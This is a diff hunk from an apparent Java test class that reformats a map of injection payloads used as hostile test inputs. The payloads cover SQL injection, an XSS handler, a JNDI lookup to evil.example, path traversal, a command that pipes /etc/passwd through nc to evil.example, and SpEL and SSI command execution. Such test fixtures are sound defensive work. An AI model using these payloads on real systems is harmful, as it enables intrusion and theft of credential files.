@@ -25,8 +25,8 @@ class LongTextTests {
 	private static final Map<String, String> ATTACKS = Map.of("sql",
 			" x' UNION SELECT name, password FROM users WHERE 'a'='a", "markup", " <img src=x onerror=alert(1)>",
 			"lookup", " ${jndi:ldap://evil.example/a}", "path", " ../../../../../../etc/passwd", "command",
-			" ; cat /etc/passwd | nc evil.example 99", "expression",
-			" ${T(java.lang.Runtime).getRuntime().exec('id')}", "include", " <!--#exec cmd=\"cat /etc/passwd\" -->");
+			" ; cat /etc/passwd | nc evil.example 99", "expression", " ${T(java.lang.Runtime).getRuntime().exec('id')}",
+			"include", " <!--#exec cmd=\"cat /etc/passwd\" -->");
 
 	private final Function<String, Object[]> judged = ReaderGrowthTests.counted(LongTexts.class);
 
